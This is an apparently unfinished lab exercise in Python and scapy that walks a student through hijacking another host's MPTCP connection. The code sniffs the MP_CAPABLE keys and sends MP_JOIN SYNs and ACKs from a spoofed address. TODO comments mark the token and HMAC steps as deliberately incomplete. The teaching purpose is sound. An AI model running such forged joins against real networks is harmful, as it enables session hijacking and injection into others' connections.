"""mptcp_forged_join: try to add your own subflow to someone else's MPTCP connection.

``attack(sniffed)`` gets the first packets seen on h1's path-A link (raw IP
packets: the MP_CAPABLE handshake of h1's connection to h2, then data).
Return three MP_JOIN SYNs to 10.0.4.2 port 5001 (h2's path-B address):

1. from 10.0.3.1, with a token h2 does not know,
2. and 3. from 10.0.3.7 (a spoofed address), with the token that names
   h1's connection at h2, from two different ports.

``complete(synacks, sniffed)`` then gets h2's SYN/ACKs to 10.0.3.7 and
returns two third ACKs completing those joins: the first (for SYN 2) with a
forged HMAC, the second (for SYN 3) with the HMAC h1 itself would send.

``exercises.scapy_layers`` has ``mp_join_syn(token, nonce=...)``,
``mp_join_ack(hmac)`` and ``mptcp_from_packet(pkt)``; ``lab.mptcp.crypto``
computes tokens and HMACs. Then run:

    tcplab exercise check mptcp_forged_join
"""

from __future__ import annotations

from scapy.layers.inet import IP, TCP

from exercises.scapy_layers import mp_join_ack, mp_join_syn, mptcp_from_packet
from lab.mptcp import crypto

SPOOFED = "10.0.3.7"
PORTS = (50000, 50001, 50002)
NONCES = (1111, 2222, 3333)
ISN = 1000


def keys(sniffed: list[bytes]) -> tuple[int, int]:
    """(h1's key, h2's key) from the MP_CAPABLE option of h1's third ACK."""
    for raw in sniffed:
        p = IP(raw)
        if TCP in p and p[TCP].flags == "A":
            for opt in mptcp_from_packet(p):
                if getattr(opt, "receiver_key", None) is not None:
                    return opt.sender_key, opt.receiver_key
    raise ValueError("no MP_CAPABLE third ACK in what was sniffed")


def attack(sniffed: list[bytes]) -> list:
    key_h1, key_h2 = keys(sniffed)
    # TODO: whose token does an MP_JOIN SYN carry? This is the sender's own.
    token = crypto.key_token(key_h1)
    forged = []
    for i, (src, tok) in enumerate((("10.0.3.1", token ^ 0x5A5A5A5A), (SPOOFED, token), (SPOOFED, token))):
        forged.append(
            IP(src=src, dst="10.0.4.2")
            / TCP(sport=PORTS[i], dport=5001, flags="S", seq=ISN, options=[mp_join_syn(tok, nonce=NONCES[i])])
        )
    return forged


def complete(synacks: list[bytes], sniffed: list[bytes]) -> list:
    acks = []
    for p in sorted((IP(r) for r in synacks), key=lambda p: p[TCP].dport):
        # TODO: both HMACs are guesses; the join from port 50002 should carry the one h1 would send
        hmac = bytes(20)
        acks.append(
            IP(src=SPOOFED, dst="10.0.4.2")
            / TCP(
                sport=p[TCP].dport, dport=5001, flags="A", seq=ISN + 1, ack=p[TCP].seq + 1, options=[mp_join_ack(hmac)]
            )
        )
    return acks
